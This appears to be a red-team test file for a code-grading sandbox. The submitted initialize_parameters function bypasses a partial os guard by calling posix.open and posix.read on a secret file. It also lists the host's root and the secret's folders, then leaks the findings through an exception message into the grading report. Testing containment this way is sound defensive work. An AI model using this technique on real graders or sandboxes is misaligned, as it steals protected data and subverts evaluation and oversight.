# RED-TEAM ATTACK (issue 9): read through the os and posix modules (the guard wraps only some of os).
# Route: posix.open/posix.read on a secret file, os.listdir('/') and '/tmp' (is the host's tree
#   there?), os.scandir of the grading machine's folders (its /tmp, the secret file's folder).
# Contained when: neither the secret nor a listing of the host's tree reaches the report, and
#   initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os
import sys

LEAK = "REDTEAM" + "-LEAK: "


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    loot = []
    try:
        fd = posix.open("__SECRET_FILE__", posix.O_RDONLY)
        loot.append(posix.read(fd, 400).decode())
        posix.close(fd)
    except Exception:
        pass
    try:
        names = set(os.listdir("/"))
        if {"etc", "proc", "usr"} <= names:
            loot.append("the host's / is visible: " + ",".join(sorted(names)))
    except Exception:
        pass
    secret_dir = os.path.dirname("__SECRET_FILE__")
    for path in (os.path.dirname(secret_dir), secret_dir):
        try:
            names = sorted(entry.name for entry in os.scandir(path))
            if os.path.basename(secret_dir) in names or os.path.basename("__SECRET_FILE__") in names:
                loot.append("%s holds %s" % (path, names[:40]))
        except Exception:
            pass
    if loot:
        raise RuntimeError(LEAK + " || ".join(loot))
    raise RuntimeError("nothing readable")
